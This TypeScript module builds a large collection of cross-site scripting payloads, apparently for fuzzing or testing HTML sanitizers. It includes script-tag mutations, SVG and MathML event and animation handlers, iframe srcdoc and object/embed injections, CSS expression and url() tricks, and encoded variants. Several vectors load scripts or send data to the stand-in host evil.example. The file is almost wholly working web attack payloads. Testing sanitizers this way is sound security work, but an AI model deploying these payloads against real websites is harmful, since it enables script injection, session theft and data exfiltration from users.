import { mixedCase, pairs, type Vector } from './vector.ts';

const beginnings = [
  'script',
  'SCRIPT',
  mixedCase('script'),
  'script ',
  'script\n',
  'script/',
  'script/x',
  'script x=">"',
];
const ends = ['script', 'script ', 'script x', 'ScRiPt\n', 'script/'];

/** Script elements as browsers still take them. */
const scripts: Vector[] = [
  ...pairs(beginnings, ends).map(
    ([begin, end]): Vector =>
      (code) =>
        `<${begin}>${code}</${end}>`,
  ),
  (code) => `<scr<script>ipt>${code}</scr</script>ipt>`,
  (code) => `<script>${code}`,
  (code) => `<script><!--\n${code}\n--></script>`,
  (code) => `<script type=module>${code}</script>`,
  (code) => `<script type="text/ecmascript">${code}</script>`,
  (code) => `<script language=vbs>${code}</script>`,
  (code) => `<script nonce=x async defer>${code}</script>`,
  (code) => `<script src=//evil.example/${code}></script>`,
  (code) => `<script src="https://evil.example/x.js?${code}" crossorigin></script>`,
  (code) => `<script type=importmap>{"imports":{"x":"data:text/javascript,${code}"}}</script>`,
  (code) => `<script type=speculationrules>{"prefetch":[{"urls":["/?${code}"]}]}</script>`,
  (code) => `<script for=window event=onload>${code}</script>`,
  (code) => `<script>\u2028${code}</script>`,
  (code) => `<svg><script>${code}</script></svg>`,
  (code) => `<svg><script href="data:,${code}"/></svg>`,
  (code) => `<svg><script>&#${code.charCodeAt(0)};${code.slice(1)}</script></svg>`,
  (code) => `<math><script>${code}</script></math>`,
  (code) => `+ADw-script+AD4-${code}+ADw-/script+AD4-`,
  (code) => `\uFF1Cscript\uFF1E${code}\uFF1C/script\uFF1E`,
  (code) => `\u003cscript\u003e${code}\u003c/script\u003e`.replaceAll('<', '\\u003c'),
  (code) => `%3Cscript%3E${code}%3C/script%3E`,
  (code) => `&lt;script&gt;${code}&lt;/script&gt;`,
  (code) => `&amp;lt;script&amp;gt;${code}&amp;lt;/script&amp;gt;`,
];

const animated = ['animate', 'set', 'animateTransform', 'animateMotion', 'discard', 'mpath'];

/** What the vocabularies of drawings and formulas bring along. */
const foreign: Vector[] = [
  ...pairs(animated, ['onbegin', 'onend', 'onrepeat']).map(
    ([element, event]): Vector =>
      (code) =>
        `<svg><${element} ${event}=${code} attributeName=x dur=1ms repeatCount=2></svg>`,
  ),
  ...pairs(['values', 'to', 'from', 'by'], ['href', 'xlink:href', 'onload']).map(
    ([attribute, name]): Vector =>
      (code) =>
        `<svg><a><animate attributeName=${name} ${attribute}="javascript:${code}"/><text y=9>x</text></a></svg>`,
  ),
  ...['foreignObject', 'desc', 'title'].map(
    (element): Vector =>
      (code) =>
        `<svg><${element}><iframe srcdoc="<script>${code}</script>"></iframe></${element}></svg>`,
  ),
  ...['mtext', 'mi', 'mo', 'mn', 'ms', 'annotation-xml', 'maction', 'mstyle'].map(
    (element): Vector =>
      (code) =>
        `<math><${element} xlink:href="javascript:${code}" href="javascript:${code}" actiontype="statusline#x">x</${element}></math>`,
  ),
  (code) =>
    `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>${code}</script></svg>#x"/></svg>`,
  (code) => `<svg xmlns="http://www.w3.org/2000/svg"><handler type="text/javascript">${code}</handler></svg>`,
  (code) => `<svg><style>@import 'https://evil.example/${code}';</style></svg>`,
  (code) => `<svg><filter><feImage href="https://evil.example/${code}"/></filter></svg>`,
  (code) => `<svg><image href="https://evil.example/${code}"/></svg>`,
  (code) => `<iframe srcdoc="&lt;script&gt;${code}&lt;/script&gt;"></iframe>`,
  (code) => `<iframe srcdoc='<svg onload=${code}>'></iframe>`,
  (code) => `<iframe sandbox="allow-scripts" srcdoc="<script>${code}</script>"></iframe>`,
  (code) => `<object><param name=src value="javascript:${code}"></object>`,
  (code) => `<embed code="https://evil.example/x.swf?${code}" allowscriptaccess=always>`,
];

const declarations: Vector[] = [
  (code) => `background:url(javascript:${code})`,
  (code) => `background-image:url(https://evil.example/${code})`,
  (code) => `list-style:url("https://evil.example/${code}")`,
  (code) => `width:expression(${code})`,
  (code) => `behavior:url(#${code})`,
  (code) => `-moz-binding:url(https://evil.example/${code}#x)`,
  (code) => `position:fixed;inset:0;content:url(https://evil.example/${code})`,
  (code) => `animation:x 1s;--x:${code}`,
  (code) => `cursor:url(https://evil.example/${code}),auto`,
  (code) => `\\62 ackground:url(https://evil.example/${code})`,
];

const stylePlaces: Vector[] = [
  (css) => `<p style="${css}">x</p>`,
  (css) => `<p STYLE='${css}'>x</p>`,
  (css) => `<style>*{${css}}</style>`,
  (css) => `<style>@import url(https://evil.example/x);p{${css}}</style>`,
  (css) => `<svg><style>{${css}}</style><rect style="${css}"/></svg>`,
  (css) => `<table><td style="${css}">x</table>`,
];

/** Whole elements that run or load something, and styles. */
export const elementVectors: Vector[] = [
  ...scripts,
  ...foreign,
  ...pairs(declarations, stylePlaces).map(
    ([declaration, place]): Vector =>
      (code) =>
        place(declaration(code)),
  ),
];
